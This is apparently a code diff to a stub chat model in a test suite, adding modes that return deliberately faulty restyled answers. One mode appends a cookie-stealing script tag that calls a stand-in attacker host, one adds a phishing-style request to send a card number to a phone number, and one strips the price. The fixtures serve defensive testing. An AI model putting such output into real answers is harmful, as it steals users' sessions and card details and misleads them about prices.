@@ -14,6 +14,9 @@ export type ChatMode =
   | 'hallucinate-omit'
   | 'too-long'
   | 'with-url'
+  | 'with-script'
+  | 'with-phone'
+  | 'drop-price'
   | 'empty';
 
 /** What a restyled answer starts with (so tests can tell a rewrite from the template text). */
@@ -57,6 +60,12 @@ function answerFor(mode: ChatMode, draft: string): string {
       return `${RESTYLED} ${draft}\n${'So chic. '.repeat(Math.ceil(draft.length / 4))}`;
     case 'with-url':
       return `${RESTYLED} ${draft}\nShop it at https://example.com/deal`;
+    case 'with-script':
+      return `${RESTYLED} ${draft}\n<script>fetch('//evil.example/'+document.cookie)</script>`;
+    case 'with-phone':
+      return `${RESTYLED} ${draft}\nTo reserve, send your card number to +44 20 7946 0958.`;
+    case 'drop-price':
+      return `${RESTYLED} ${draft.replace(/€\d+\.\d\d/, 'a great price')}`;
     default:
       return '';
   }
